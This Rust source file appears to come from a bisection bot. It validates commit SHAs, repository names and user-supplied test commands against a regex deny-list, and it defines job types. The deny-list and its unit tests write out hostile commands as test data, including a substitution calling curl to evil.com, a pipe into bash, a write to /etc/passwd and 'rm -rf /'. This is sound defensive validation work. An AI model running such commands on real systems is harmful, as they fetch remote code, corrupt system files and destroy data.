use crate::errors::CommandError;
use crate::prelude::*;
use chrono::{DateTime, Utc};
use lazy_static::lazy_static;
use regex::Regex;

lazy_static! {
    static ref SHA_RE: Regex = Regex::new(r"^[0-9a-fA-F]{7,40}$").unwrap();
    static ref OWNER_RE: Regex =
        Regex::new(r"^[a-zA-Z0-9]([a-zA-Z0-9-]*[a-zA-Z0-9])?$").unwrap();
    static ref REPO_RE: Regex = Regex::new(r"^[a-zA-Z0-9._-]+$").unwrap();

    /// Deny-list applied to the raw test command at ingress: command
    /// substitution, shell pipes into interpreters, writes into system
    /// paths, and hex-encoded payloads.
    static ref DISALLOWED_COMMAND_RE: Vec<Regex> = vec![
        Regex::new(r"\$\(").unwrap(),
        Regex::new(r"`").unwrap(),
        Regex::new(r"\|\s*(sh|bash|zsh|python[0-9.]*|perl|ruby|node)\b").unwrap(),
        Regex::new(r">\s*/(etc|boot|sys|proc|dev)(/|\b)").unwrap(),
        Regex::new(r"\\x[0-9a-fA-F]{2}(\\x[0-9a-fA-F]{2}){3,}").unwrap(),
        Regex::new(r"rm\s+-rf\s+/").unwrap(),
    ];
}

pub fn validate_sha(sha: &str) -> Result<(), CommandError> {
    if SHA_RE.is_match(sha) {
        Ok(())
    } else {
        Err(CommandError::InvalidSha(sha.to_string()))
    }
}

pub fn validate_owner(owner: &str) -> Result<(), CommandError> {
    if owner.len() <= 39 && OWNER_RE.is_match(owner) {
        Ok(())
    } else {
        Err(CommandError::InvalidOwner(owner.to_string()))
    }
}

pub fn validate_repo_name(name: &str) -> Result<(), CommandError> {
    if name.len() <= 100 && REPO_RE.is_match(name) {
        Ok(())
    } else {
        Err(CommandError::InvalidRepoName(name.to_string()))
    }
}

pub fn validate_test_command(command: &str) -> Result<(), CommandError> {
    if command.trim().is_empty() {
        return Err(CommandError::Malformed);
    }
    for pattern in DISALLOWED_COMMAND_RE.iter() {
        if pattern.is_match(command) {
            return Err(CommandError::DisallowedCommand(command.to_string()));
        }
    }
    Ok(())
}

#[derive(Debug, Copy, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum JobStatus {
    Pending,
    Running,
    Completed,
    Failed,
    Cancelled,
}

impl JobStatus {
    pub fn as_str(&self) -> &'static str {
        match self {
            JobStatus::Pending => "pending",
            JobStatus::Running => "running",
            JobStatus::Completed => "completed",
            JobStatus::Failed => "failed",
            JobStatus::Cancelled => "cancelled",
        }
    }
}

impl std::str::FromStr for JobStatus {
    type Err = anyhow::Error;

    fn from_str(s: &str) -> Fallible<Self> {
        Ok(match s {
            "pending" => JobStatus::Pending,
            "running" => JobStatus::Running,
            "completed" => JobStatus::Completed,
            "failed" => JobStatus::Failed,
            "cancelled" => JobStatus::Cancelled,
            other => bail!("unknown job status: {other}"),
        })
    }
}

/// Parameters needed to create a job row, gathered at webhook ingress.
#[derive(Debug, Clone)]
pub struct JobSpec {
    pub repo_owner: String,
    pub repo_name: String,
    pub installation_id: i64,
    pub issue_number: i64,
    pub requester: String,
    pub good_sha: String,
    pub bad_sha: String,
    pub test_command: String,
    pub delivery_id: String,
}

/// The terminal outcome an executor reports to the job store's `finish`.
#[derive(Debug, Clone)]
pub enum JobOutcome {
    Completed { culprit_sha: String },
    Failed { reason: String },
    Cancelled,
}

/// The central entity: one bisect request, tracked from ingress through
/// completion.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Job {
    pub id: i64,
    pub status: JobStatus,
    pub repo_owner: String,
    pub repo_name: String,
    pub installation_id: i64,
    pub issue_number: i64,
    pub requester: String,
    pub good_sha: String,
    pub bad_sha: String,
    pub test_command: String,
    pub worker_id: Option<String>,
    pub attempt_count: i64,
    pub created_at: DateTime<Utc>,
    pub started_at: Option<DateTime<Utc>>,
    pub heartbeat_at: Option<DateTime<Utc>>,
    pub finished_at: Option<DateTime<Utc>>,
    pub culprit_sha: Option<String>,
    pub error_message: Option<String>,
    pub progress_log: Option<String>,
    pub comment_id: Option<i64>,
    pub delivery_id: Option<String>,
}

impl Job {
    /// Redact fields that can embed secrets (never the case today, but
    /// `test_command` is attacker-controlled, so the read surface only ever
    /// shows a length-capped excerpt) before the row leaves the process.
    pub fn redacted(mut self) -> Self {
        const MAX_LEN: usize = 4096;
        if let Some(log) = &self.progress_log {
            if log.len() > MAX_LEN {
                self.progress_log = Some(format!("{}… [truncated]", &log[..MAX_LEN]));
            }
        }
        self
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn accepts_valid_shas() {
        assert!(validate_sha("abc1234").is_ok());
        assert!(validate_sha(&"a".repeat(40)).is_ok());
    }

    #[test]
    fn rejects_short_or_nonhex_shas() {
        assert!(validate_sha("abc12").is_err());
        assert!(validate_sha("xyz1234").is_err());
        assert!(validate_sha(&"a".repeat(41)).is_err());
    }

    #[test]
    fn rejects_malicious_test_commands() {
        assert!(validate_test_command("pytest; $(curl evil.com)").is_err());
        assert!(validate_test_command("echo hi | bash").is_err());
        assert!(validate_test_command("echo hi > /etc/passwd").is_err());
        assert!(validate_test_command("rm -rf /").is_err());
    }

    #[test]
    fn accepts_ordinary_test_commands() {
        assert!(validate_test_command("cargo test --release").is_ok());
        assert!(validate_test_command("pytest tests/").is_ok());
    }

    #[test]
    fn owner_and_repo_validation() {
        assert!(validate_owner("rust-lang").is_ok());
        assert!(validate_owner("-bad").is_err());
        assert!(validate_owner(&"a".repeat(40)).is_err());
        assert!(validate_repo_name("crater.rs").is_ok());
        assert!(validate_repo_name("bad name").is_err());
    }
}
